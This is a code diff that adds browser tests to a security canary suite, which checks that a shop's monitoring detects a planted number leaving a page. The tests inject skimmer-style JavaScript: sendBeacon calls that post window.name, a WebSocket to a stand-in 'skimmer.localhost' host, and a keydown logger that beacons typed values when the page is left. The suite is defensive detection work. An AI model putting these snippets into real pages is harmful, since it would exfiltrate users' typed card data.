@@ -11,7 +11,7 @@ from playwright.sync_api import Browser, BrowserContext, Route, expect
 
 from security.canary.numbers import fresh_number
 from security.canary.page import Allowed
-from security.canary.typing import left
+from security.canary.typing import left, type_everywhere
 from security.canary.watched import Watched
 from security.scripts import inventory
 from shop.scope.system import System, running_system
@@ -110,3 +110,49 @@ def test_a_number_that_another_page_sends_later_is_seen_and_told_once(
     assert at_once == []
     assert [finding.rule for finding in left(watched, number, "/cart")] == ["number-left"]
     assert list(left(watched, number, "/cart")) == []
+
+
+SENDS = {
+    "a beacon": "navigator.sendBeacon('/csp-report', window.name)",
+    "a beacon of bytes": "navigator.sendBeacon('/csp-report', new TextEncoder().encode(window.name))",
+    "a beacon of a form": "(() => { const form = new FormData(); form.set('n', window.name);"
+    " navigator.sendBeacon('/csp-report', form); })()",
+    "a beacon of a blob": "navigator.sendBeacon('/csp-report', new Blob([window.name]))",
+    "a socket": "(() => { const made = new WebSocket('ws://skimmer.localhost:9/take/' + window.name); })()",
+}
+
+
+@pytest.mark.parametrize("how", SENDS)
+def test_what_the_browser_itself_does_not_tell_of_is_seen(
+    how: str, unprotected: BrowserContext, system: System
+) -> None:
+    watched, number = Watched(unprotected.new_page()), fresh_number()
+    watched.open(system.origins["style"] + "/search")
+    watched.page.evaluate("number => { window.name = number }", number)
+    watched.page.evaluate(f"() => {{ {SENDS[how]}; }}")
+    watched.page.evaluate("() => new Promise(done => setTimeout(done))")
+    rules = {finding.rule for finding in watched.judge(shelf(system, "style"), inventory.load())}
+
+    watched.open(system.origins["style"] + "/cart")
+
+    assert {finding.rule for finding in left(watched, number, "/cart")} == {"number-left"}
+    assert ("request" in rules) == (how == "a socket"), "it alone went to another host"
+
+
+@pytest.mark.parametrize("event", ["pagehide", "visibilitychange", "beforeunload", "unload", "blur"])
+def test_what_a_page_sends_when_it_is_left_is_seen_while_it_is_there(
+    event: str, unprotected: BrowserContext, system: System
+) -> None:
+    watched, number = Watched(unprotected.new_page()), fresh_number()
+    watched.open(system.origins["style"] + "/search")
+    watched.page.evaluate(
+        "event => { addEventListener('keydown', each => { window.seen = each.target.value }, true);"
+        " const go = () => { if (event !== 'visibilitychange' || document.hidden)"
+        " navigator.sendBeacon('/csp-report', window.seen) }; addEventListener(event, go) }",
+        event,
+    )
+
+    type_everywhere(watched, number)
+
+    assert {finding.rule for finding in left(watched, number, "/search")} == {"number-left"}
+    assert watched.page.evaluate("() => document.visibilityState") == "visible"
